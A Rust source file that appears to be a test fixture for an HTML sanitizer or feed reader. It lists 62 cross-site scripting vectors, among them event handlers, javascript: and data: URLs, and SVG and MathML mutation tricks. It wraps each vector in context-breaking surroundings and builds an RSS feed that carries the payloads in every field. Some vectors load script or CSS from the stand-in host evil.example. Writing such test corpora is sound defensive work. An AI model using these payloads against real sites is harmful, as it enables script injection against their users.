//! Markup that runs code where somebody forgot to look: vectors, each in several surroundings.

/// What would run, or load, or leave the page.
const VECTORS: [&str; 62] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT/XSS SRC=//evil.example/x.js></SCRIPT>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{c}>alert(1)</script\u{c}>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\u{b}=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=`javascript:alert(1)`>",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\" onload=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;script&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=//evil.example/ onmouseover=alert(1) style=\"position:fixed;inset:0\">x</a>",
    "<body onload=alert(1)>",
    "<body background=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><maction actiontype=statusline xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><mi><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\"></mtext></svg></mglyph></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=x></applet>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button form=f formaction=\"javascript:alert(1)\">x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=\"javascript:alert(1)\"><td style=\"background:url(javascript:alert(1))\">",
    "<div style=\"width:expression(alert(1))\" onclick=alert(1)>x</div>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
];

/// What a vector may stand in: `@` is its place.
const SURROUNDINGS: [&str; 6] = [
    "@",
    "\">@",
    "</title></textarea></style></script>-->@",
    "<p title='@'>words</p>",
    "<math><mtext><table><mglyph><style><!--</style>@",
    "<b><a href=\"https://ashby.example/\">@",
];

/// Each vector in each of its surroundings, and escaped once more than it should be.
pub fn payloads() -> Vec<String> {
    let escaped = |text: &str| text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    let all = VECTORS.iter().flat_map(|vector| SURROUNDINGS.iter().map(|around| around.replace('@', vector)));
    all.chain(VECTORS.iter().map(|vector| escaped(vector))).collect()
}

/// A feed with every payload wherever a feed has words or addresses.
pub fn feed(payloads: &[String]) -> String {
    let escape = |text: &str| text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;");
    let items: String = payloads
        .iter()
        .enumerate()
        .map(|(at, raw)| {
            let words = escape(raw);
            let cdata = raw.replace("]]>", "");
            let link = if at % 2 == 0 { format!("https://ashby.example/{at}?q={words}") } else { format!("javascript:alert({at})//{words}") };
            format!(
                "<item><guid>https://ashby.example/{at}</guid><link>{link}</link><title>{at} {words}</title><author>{words}</author>\
                 <category>{words}</category><pubDate>Wed, 18 Nov 2026 10:00:00 GMT</pubDate>\
                 <enclosure url=\"{words}\" type=\"{words}\" length=\"1\"/>\
                 <description>{words} beside words of its own</description><content:encoded><![CDATA[<p>Words.</p>{cdata}]]></content:encoded></item>"
            )
        })
        .collect();
    format!(
        "<rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel><title>Ashby {0}</title>\
         <description>{0}</description><link>https://ashby.example/</link>{items}</channel></rss>",
        escape(&payloads[0])
    )
}
